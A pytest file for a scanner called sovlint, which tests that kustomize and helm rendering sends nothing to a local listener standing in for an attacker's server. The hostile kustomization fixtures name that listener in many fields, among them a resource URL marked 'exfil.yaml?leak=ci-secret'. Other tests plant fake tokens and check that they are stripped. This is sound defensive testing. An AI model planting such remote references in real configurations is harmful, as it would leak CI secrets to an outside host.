"""SPEC §9: a renderer runs only when nothing remote is anywhere in what it reads, sandboxed.

A local HTTP listener stands for the attacker's server. Each hostile tree
names it somewhere kustomize's documentation allows a reference (resources,
bases, components, nested kustomizations, generators' files and envs,
patches from files, replacements, transformer configurations, the OpenAPI
schema, CRDs, helmCharts, plugin configurations): ``sovlint scan`` must send
it nothing, and say which reference kept the kustomization from being
rendered. A control run of kubectl itself on the same tree proves the
listener would have seen the request.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import stat
import subprocess
import sys
import threading
from pathlib import Path
from typing import Callable, Iterator

import pytest

from filetree import write_tree
from hostile import cli_env, run_sovlint

KUBECTL = shutil.which("kustomize") or shutil.which("kubectl")
needs_kustomize = pytest.mark.skipif(KUBECTL is None, reason="neither kustomize nor kubectl on PATH")

CONFIGMAP = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: served\ndata:\n  a: b\n"


class Listener:
    """An HTTP server on 127.0.0.1 that records every request and serves a manifest."""

    def __init__(self) -> None:
        requests: list[str] = []
        self.requests = requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                requests.append(self.path)
                body = CONFIGMAP.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
def shared_listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()


def _app(name: str = "app") -> str:
    return f"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {name}\n"


#: name -> (files of the tree, given the listener's URL; the file and line naming it; what it is)
NESTINGS: dict[str, tuple[Callable[[str], dict[str, str]], str, str]] = {
    "resources in a nested kustomization (the issue's case)": (lambda url: {
        "kustomization.yaml": "resources:\n  - sub\n",
        "sub/kustomization.yaml": f"resources:\n  - {url}/exfil.yaml?leak=ci-secret\n",
    }, "sub/kustomization.yaml:2", "resources"),
    "a remote resource three levels down": (lambda url: {
        "kustomization.yaml": "resources:\n  - a\n",
        "a/kustomization.yaml": "resources:\n  - ../b\n",
        "b/kustomization.yaml": "resources:\n  - c\n  - app.yaml\n",
        "b/app.yaml": _app(),
        "b/c/kustomization.yaml": f"resources:\n  - {url}/deep.yaml\n",
    }, "b/c/kustomization.yaml:2", "resources"),
    "bases": (lambda url: {"kustomization.yaml": f"bases:\n  - {url}/base\n"},
              "kustomization.yaml:2", "bases"),
    "a component that names a remote resource": (lambda url: {
        "kustomization.yaml": "resources:\n  - app.yaml\ncomponents:\n  - comp\n",
        "app.yaml": _app(),
        "comp/kustomization.yaml": ("apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\n"
                                    f"resources:\n  - {url}/component.yaml\n"),
    }, "comp/kustomization.yaml:4", "resources"),
    "a git repository": (lambda url: {
        "kustomization.yaml": f"resources:\n  - {url.replace('http://', 'git@')}:org/repo.git//x?ref=main\n",
    }, "kustomization.yaml:2", "resources"),
    "a target that is not a local path": (lambda url: {
        "kustomization.yaml": f"resources:\n  - {url.split('//')[1]}/org/repo\n",
    }, "kustomization.yaml:2", "not a local file or folder"),
    "patches from a file": (lambda url: {
        "kustomization.yaml": f"resources:\n  - app.yaml\npatches:\n  - path: {url}/patch.yaml\n",
        "app.yaml": _app(),
    }, "kustomization.yaml:4", "patches path"),
    "patchesStrategicMerge": (lambda url: {
        "kustomization.yaml": f"resources:\n  - app.yaml\npatchesStrategicMerge:\n  - {url}/smp.yaml\n",
        "app.yaml": _app(),
    }, "kustomization.yaml:4", "patchesStrategicMerge"),
    "patchesJson6902": (lambda url: {
        "kustomization.yaml": ("resources:\n  - app.yaml\npatchesJson6902:\n  - target: {version: v1, "
                               f"kind: ConfigMap, name: app}}\n    path: {url}/json.yaml\n"),
        "app.yaml": _app(),
    }, "kustomization.yaml:5", "patchesJson6902 path"),
    "configMapGenerator files": (lambda url: {
        "kustomization.yaml": f"configMapGenerator:\n  - name: c\n    files:\n      - {url}/file.txt\n",
    }, "kustomization.yaml:4", "configMapGenerator files"),
    "configMapGenerator envs": (lambda url: {
        "kustomization.yaml": f"configMapGenerator:\n  - name: c\n    envs:\n      - {url}/app.env\n",
    }, "kustomization.yaml:4", "configMapGenerator envs"),
    "secretGenerator key=file": (lambda url: {
        "kustomization.yaml": f"secretGenerator:\n  - name: s\n    files:\n      - key={url}/secret\n",
    }, "kustomization.yaml:4", "secretGenerator files"),
    "a generator configuration file": (lambda url: {
        "kustomization.yaml": "generators:\n  - gen.yaml\n",
        "gen.yaml": ("apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata:\n  name: g\n"
                     f"files:\n  - {url}/generated.txt\n"),
    }, "gen.yaml:6", "generators files"),
    "an inline transformer configuration": (lambda url: {
        "kustomization.yaml": ("resources:\n  - app.yaml\ntransformers:\n  - |-\n    apiVersion: builtin\n"
                               "    kind: PatchTransformer\n    metadata:\n      name: t\n"
                               f"    path: {url}/transformer.yaml\n"),
        "app.yaml": _app(),
    }, "kustomization.yaml:4", "transformers path"),
    "a remote generator": (lambda url: {
        "kustomization.yaml": f"generators:\n  - {url}/generators\n",
    }, "kustomization.yaml:2", "generators"),
    "replacements": (lambda url: {
        "kustomization.yaml": f"resources:\n  - app.yaml\nreplacements:\n  - path: {url}/replacement.yaml\n",
        "app.yaml": _app(),
    }, "kustomization.yaml:4", "replacements path"),
    "the OpenAPI schema": (lambda url: {
        "kustomization.yaml": f"resources:\n  - app.yaml\nopenapi:\n  path: {url}/schema.json\n",
        "app.yaml": _app(),
    }, "kustomization.yaml:4", "openapi path"),
    "a reference inside a local OpenAPI schema": (lambda url: {
        "kustomization.yaml": "resources:\n  - app.yaml\nopenapi:\n  path: schema.json\n",
        "app.yaml": _app(),
        "schema.json": '{"definitions": {"x": {"$ref": "' + url + '/remote.json#/x"}}}\n',
    }, "schema.json:1", "JSON schema $ref"),
    "crds": (lambda url: {"kustomization.yaml": f"crds:\n  - {url}/crd.yaml\n"},
             "kustomization.yaml:2", "crds"),
    "transformer configurations": (lambda url: {
        "kustomization.yaml": f"resources:\n  - app.yaml\nconfigurations:\n  - {url}/config.yaml\n",
        "app.yaml": _app(),
    }, "kustomization.yaml:4", "configurations"),
    "helmCharts from a repository": (lambda url: {
        "kustomization.yaml": f"helmCharts:\n  - name: demo\n    version: 1.0.0\n    repo: {url}/charts\n",
    }, "kustomization.yaml:4", "helmCharts demo"),
    "helmCharts values from a URL": (lambda url: {
        "kustomization.yaml": f"helmCharts:\n  - name: demo\n    valuesFile: {url}/values.yaml\n",
        "charts/demo/Chart.yaml": "apiVersion: v2\nname: demo\nversion: 1.0.0\n",
    }, "kustomization.yaml:3", "helmCharts valuesFile"),
}


def _slug(nesting: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in nesting)


@pytest.fixture(scope="module")
def hostile_scan(tmp_path_factory: pytest.TempPathFactory, shared_listener: Listener) -> dict[str, object]:
    """Every nesting in its own folder of one tree, scanned once."""
    base = tmp_path_factory.mktemp("nestings")
    for nesting, (files, _, _) in NESTINGS.items():
        write_tree(base / "tree" / _slug(nesting), {"app.yaml": _app("top"), **files(shared_listener.url)})
    run = run_sovlint(base, "scan", "tree", "--format", "json", "--no-cache", timeout=300)
    assert run.code in (0, 1), run.stderr
    return run.json()


@needs_kustomize
@pytest.mark.parametrize("nesting", list(NESTINGS))
def test_no_request_reaches_the_network(nesting: str, hostile_scan: dict[str, object],
                                        shared_listener: Listener) -> None:
    _, where, what = NESTINGS[nesting]
    assert shared_listener.requests == [], shared_listener.requests
    folder = f"tree/{_slug(nesting)}"
    errors = hostile_scan["errors"]
    assert isinstance(errors, list)
    messages = [e["message"] for e in errors if e["path"] == f"{folder}/kustomization.yaml"]
    assert len(messages) == 1, errors
    assert messages[0].startswith("kustomization not rendered: remote reference not fetched: "), messages
    assert f"{folder}/{where}" in messages[0] and what in messages[0], messages[0]
    assert "served" not in json.dumps(hostile_scan["resources"])  # nothing of the listener's was scanned


@needs_kustomize
def test_the_listener_would_have_seen_kubectl_fetch_it(tmp_path: Path, listener: Listener) -> None:
    """The control: the same tree built by the tool directly reaches the listener."""
    files, _, _ = NESTINGS["resources in a nested kustomization (the issue's case)"]
    tree = write_tree(tmp_path / "tree", files(listener.url))
    assert KUBECTL is not None
    command = [KUBECTL, "build" if KUBECTL.endswith("kustomize") else "kustomize", str(tree)]
    env = {**os.environ, "HOME": str(tmp_path)}
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, env=env)
    assert any(r.startswith("/exfil.yaml?leak=ci-secret") for r in listener.requests), (listener.requests, done.stderr)


@needs_kustomize
def test_a_local_graph_is_rendered_with_the_load_restrictor(tmp_path: Path, listener: Listener) -> None:
    write_tree(tmp_path / "tree", {
        "kustomization.yaml": "resources:\n  - base\nnamePrefix: prod-\n",
        "base/kustomization.yaml": "resources:\n  - app.yaml\n",
        "base/app.yaml": _app(),
        "escape/kustomization.yaml": "resources:\n  - ../outside.yaml\n",
        "outside.yaml": _app("outside"),
    })
    run = run_sovlint(tmp_path, "scan", "tree", "--format", "json", "--no-cache", timeout=120)
    doc = run.json()
    assert "ConfigMap/default/prod-app" in {r["address"] for r in doc["resources"]} or any(
        r["address"].endswith("prod-app") for r in doc["resources"]), doc["resources"]
    (escape,) = [e["message"] for e in doc["errors"] if e["path"] == "tree/escape/kustomization.yaml"]
    # the restrictor refuses a file outside the kustomization's folder; kubectl's own reason is given
    assert "kustomization not rendered:" in escape and "security" in escape or "not in or below" in escape, escape
    assert listener.requests == []


STUB = """#!{python}
import json, os, socket, sys
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
    reached = True
except OSError:
    reached = False
home = os.environ.get("HOME", "")
with open(os.path.join({log!r}), "w") as handle:
    json.dump({{"env": dict(os.environ), "reached": reached, "argv": sys.argv,
               "kubeconfig": open(os.environ["KUBECONFIG"]).read() if "KUBECONFIG" in os.environ else None,
               "home_entries": os.listdir(home) if home else None}}, handle)
print("apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: stubbed\\n")
"""


def _stub(tmp_path: Path, name: str, port: int) -> tuple[Path, Path]:
    tools = tmp_path / "tools"
    tools.mkdir(exist_ok=True)
    log = tmp_path / f"{name}.json"
    stub = tools / name
    stub.write_text(STUB.format(python=sys.executable, port=port, log=str(log)), encoding="utf-8")
    stub.chmod(stub.stat().st_mode | stat.S_IXUSR)
    return tools, log


@pytest.mark.parametrize("tool, tree", [
    ("kustomize", {"tree/kustomization.yaml": "resources:\n  - app.yaml\n", "tree/app.yaml": _app()}),
    ("helm", {"tree/Chart.yaml": "apiVersion: v2\nname: demo\nversion: 0.1.0\n",
              "tree/templates/cm.yaml": _app()}),
])
def test_a_renderer_gets_no_credentials_no_cluster_and_no_network(tool: str, tree: dict[str, str],
                                                                  tmp_path: Path, listener: Listener) -> None:
    from sovlint.normalise.sandbox import network_isolation

    port = int(listener.url.rsplit(":", 1)[1])
    tools, log = _stub(tmp_path, tool, port)
    write_tree(tmp_path, tree)
    env = {**cli_env(tmp_path), "PATH": f"{tools}{os.pathsep}{os.environ['PATH']}",
           "AWS_SECRET_ACCESS_KEY": "hunter2", "GITHUB_TOKEN": "ghp_secret", "SSH_AUTH_SOCK": "/tmp/agent",
           "KUBECONFIG": str(tmp_path / "real-kubeconfig"), "GIT_ASKPASS": "/usr/bin/true"}
    done = subprocess.run([sys.executable, "-m", "sovlint", "scan", "tree", "--format", "json", "--no-cache"],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode in (0, 1), done.stderr
    seen = json.loads(log.read_text(encoding="utf-8"))
    child = seen["env"]
    assert not {"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "SSH_AUTH_SOCK"} & set(child)
    assert child["HOME"] != os.environ.get("HOME") and seen["home_entries"] == ["kubeconfig"]
    assert child["KUBECONFIG"].startswith(child["HOME"]) and "server: https://127.0.0.1:0" in seen["kubeconfig"]
    assert child["GIT_ALLOW_PROTOCOL"] == "none" and child["GIT_TERMINAL_PROMPT"] == "0"
    assert child["GIT_ASKPASS"] == "false" and child["GIT_CONFIG_GLOBAL"] == os.devnull
    assert child["HELM_NO_PLUGINS"] == "1" and child["HTTPS_PROXY"].endswith(":0")
    if tool == "kustomize":
        assert "--load-restrictor" in seen["argv"] and "LoadRestrictionsRootOnly" in seen["argv"]
    if network_isolation():  # a network namespace of its own: not even the loopback is reachable
        assert seen["reached"] is False and listener.requests == []
    assert "stubbed" in done.stdout  # its output was scanned


def test_chart_graph_refuses_remote_dependencies_and_schema_references(tmp_path: Path) -> None:
    from sovlint.normalise.sandbox import chart_graph

    write_tree(tmp_path, {
        "chart/Chart.yaml": ("apiVersion: v2\nname: c\nversion: 1.0.0\ndependencies:\n"
                             "  - name: vendored\n    version: 1.0.0\n    repository: https://charts.example\n"
                             "  - name: missing\n    version: 1.0.0\n    repository: oci://registry.example/x\n"),
        "chart/charts/vendored/Chart.yaml": "apiVersion: v2\nname: vendored\nversion: 1.0.0\n",
        "chart/charts/vendored/values.schema.json": '{"$ref": "https://schemas.example/x.json"}',
        "chart/values.schema.json": '{"$schema": "http://json-schema.org/draft-07/schema#"}',
        "chart/templates/dns.yaml": 'a: {{ getHostByName "x.example" }}\n',
    })
    graph = chart_graph(tmp_path / "chart" / "Chart.yaml", "chart/Chart.yaml")
    found = sorted((r.reference, r.path, r.line) for r in graph.remote)
    assert found == [
        ("getHostByName", "chart/templates/dns.yaml", 1),
        ("https://schemas.example/x.json", "chart/charts/vendored/values.schema.json", 1),
        ("oci://registry.example/x", "chart/Chart.yaml", 8),
    ]


def test_bicep_graph_refuses_registry_modules(tmp_path: Path) -> None:
    from sovlint.normalise.sandbox import bicep_graph

    write_tree(tmp_path, {
        "main.bicep": "module local './mod.bicep' = {\n  name: 'x'\n}\n",
        "mod.bicep": "module remote 'br/public:avm/res/storage/storage-account:0.9.0' = {\n  name: 'y'\n}\n"
                     "module spec 'ts:00000000-0000-0000-0000-000000000000/rg/spec:1.0' = {\n  name: 'z'\n}\n",
    })
    graph = bicep_graph(tmp_path / "main.bicep", "main.bicep")
    assert [(r.reference, r.path, r.line) for r in graph.remote] == [
        ("br/public:avm/res/storage/storage-account:0.9.0", "mod.bicep", 1),
        ("ts:00000000-0000-0000-0000-000000000000/rg/spec:1.0", "mod.bicep", 4),
    ]


def test_a_failure_cause_is_the_error_without_log_noise() -> None:
    from sovlint.normalise.sandbox import failure_cause

    stderr = (b"E1206 18:36:25.912345   4242 memcache.go:265] couldn't get current server API group list\n"
              b"error: trouble configuring builtin HelmChartInflationGenerator with config: `\n"
              b"name: demo\nrepo: https://charts.example\n`: must specify --enable-helm\n")
    cause = failure_cause(stderr, 1)
    assert cause.startswith("error: trouble configuring builtin HelmChartInflationGenerator")
    assert cause.endswith("must specify --enable-helm") and "memcache" not in cause and "\n" not in cause
    assert failure_cause(b"\x1b]0;title\x07error: bad\n", 1) == "\\x1b]0;title\\x07error: bad"


def test_a_failure_logged_by_klog_gives_its_error() -> None:
    from sovlint.normalise.sandbox import failure_cause

    stderr = (b'E1206 18:55:45.711658    8724 run.go:72] "command failed" err="accumulating resources: '
              b"security; file '/x/outside.yaml' is not in or below '/x/escape'\"\n")
    assert failure_cause(stderr, 1) == ("accumulating resources: security; file '/x/outside.yaml' "
                                        "is not in or below '/x/escape'")


@needs_kustomize
def test_a_base_linked_out_of_the_tree_is_not_rendered(tmp_path: Path) -> None:
    write_tree(tmp_path, {"outside/kustomization.yaml": "resources:\n  - secret.yaml\n",
                          "outside/secret.yaml": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: hunter2\n",
                          "tree/.git/HEAD": "", "tree/kustomization.yaml": "resources:\n  - base\n"})
    os.symlink(tmp_path / "outside", tmp_path / "tree" / "base")
    run = run_sovlint(tmp_path, "scan", "tree", "--format", "json", "--no-cache", timeout=120)
    doc = run.json()
    (message,) = [e["message"] for e in doc["errors"] if e["path"] == "tree/kustomization.yaml"]
    assert message.startswith("kustomization not rendered: link out of the scanned tree not followed: base "
                              "(resources, tree/kustomization.yaml:2)"), message
    assert "hunter2" not in run.stdout
